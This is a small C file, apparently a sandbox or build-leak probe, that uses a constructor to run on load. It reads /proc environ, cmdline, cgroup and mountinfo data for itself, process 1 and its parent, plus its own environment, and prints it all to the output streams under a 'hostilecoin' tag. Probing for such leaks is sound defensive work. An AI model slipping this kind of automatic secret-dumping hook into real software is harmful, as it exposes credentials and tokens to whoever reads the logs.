/*
 * secrets-environment: Prints environments and command lines of itself,
 * process 1 and its parent, from /proc and from its own stack.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Prints a file's beginning, if it can be had. */
static void show_file(const char *path)
{
    char text[4096];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text);
    for (ssize_t i = 0; i < size; i++)
        text[i] = text[i] ? text[i] : ' ';
    if (size > 0) {
        dprintf(1, "hostilecoin found %s: %.*s\n", path, (int)size, text);
        dprintf(2, "hostilecoin found %s: %.*s\n", path, (int)size, text);
    }
    if (fd >= 0)
        close(fd);
}

extern char **environ;
static void look(void)
{
    char path[64];
    static const char *const what[] = {"environ", "cmdline", "cgroup",
                                       "mountinfo", "status"};
    for (int i = 0; i < 5; i++) {
        snprintf(path, sizeof path, "/proc/self/%s", what[i]);
        show_file(path);
        snprintf(path, sizeof path, "/proc/1/%s", what[i]);
        show_file(path);
        snprintf(path, sizeof path, "/proc/%d/%s", (int)getppid(), what[i]);
        show_file(path);
    }
    for (char **e = environ; e && *e; e++)
        printf("hostilecoin environment: %s\n", *e);
}
__attribute__((constructor)) static void begin(void)
{
    look();
}
